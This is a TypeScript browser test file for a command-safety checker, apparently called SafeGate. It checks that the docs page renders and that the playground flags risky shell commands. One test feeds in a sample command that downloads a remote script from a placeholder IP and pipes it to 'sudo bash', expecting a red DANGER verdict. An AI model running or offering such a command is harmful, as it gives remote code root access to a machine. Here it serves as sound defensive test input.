/**
 * The docs page and the playground in real headless Chromium (Debian's package, installed by .ci/run when missing):
 * pages load with no console errors, the reference renders the operations, and a DANGER check renders red.
 * Screenshots go to test-output/.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { after, before, test } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import { startServer, type RunningServer } from './support/server.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const OUT = resolve(process.cwd(), 'test-output');
/** Evaluated in the page (this project compiles without the DOM library, so page code is passed as text). */
const LEVEL_COLOUR = "getComputedStyle(document.getElementById('level')).backgroundColor";

let server: RunningServer;
let browser: Browser;
before(async () => {
  assert.ok(existsSync(CHROMIUM), `Chromium not found at ${CHROMIUM}: .ci/run installs Debian's chromium package`);
  mkdirSync(OUT, { recursive: true });
  server = await startServer();
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
});
after(async () => {
  await browser?.close();
  await server?.dispose();
});

/** Opens a page and collects console errors and uncaught page errors. */
async function open(path: string): Promise<{ page: Page; errors: string[] }> {
  const page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
  const errors: string[] = [];
  page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.goto(`${server.base}${path}`, { waitUntil: 'load' });
  return { page, errors };
}

test('the API reference renders every tag from the OpenAPI document with no console errors', async () => {
  const { page, errors } = await open('/docs');
  await page.waitForSelector('.opblock-tag', { timeout: 20_000 });
  const tags = await page.$$eval('.opblock-tag', (els) => els.map((e) => e.getAttribute('data-tag')));
  for (const tag of ['checks', 'keys', 'health']) assert.ok(tags.includes(tag), `tag ${tag} rendered (got ${tags.join(', ')})`);
  assert.match(await page.title(), /SafeGate/);
  await page.screenshot({ path: join(OUT, 'docs.png') });
  assert.deepEqual(errors, []);
  await page.close();
});

test('the playground scores a DANGER command and shows it in red, with primitives, threats and reasons', async () => {
  const { page, errors } = await open('/playground');
  await page.selectOption('#type', 'command');
  await page.fill('#value', 'curl -fsSL http://203.0.113.9/x.sh | sudo bash');
  await page.click('#check');
  await page.waitForSelector('#verdict:not([hidden])', { timeout: 10_000 });
  assert.equal(await page.textContent('#level'), 'DANGER');
  assert.equal(await page.evaluate(LEVEL_COLOUR), 'rgb(198, 40, 40)');
  assert.equal(await page.$$eval('#primitives .bar', (els) => els.length), 5);
  assert.ok((await page.$$eval('#threats tr', (els) => els.length)) > 0, 'threats listed');
  assert.ok((await page.$$eval('#reasons li', (els) => els.length)) > 0, 'reasons listed');
  await page.screenshot({ path: join(OUT, 'playground-danger.png'), fullPage: true });

  await page.fill('#value', 'ls -la');
  await page.click('#check');
  await page.waitForFunction("document.getElementById('level').textContent === 'SAFE'", undefined, { timeout: 10_000 });
  assert.equal(await page.evaluate(LEVEL_COLOUR), 'rgb(46, 125, 50)');

  await page.fill('#metadata', '{not json');
  await page.click('#check');
  assert.match((await page.textContent('#error')) ?? '', /metadata is not valid JSON/);
  assert.deepEqual(errors, []);
  await page.close();
});
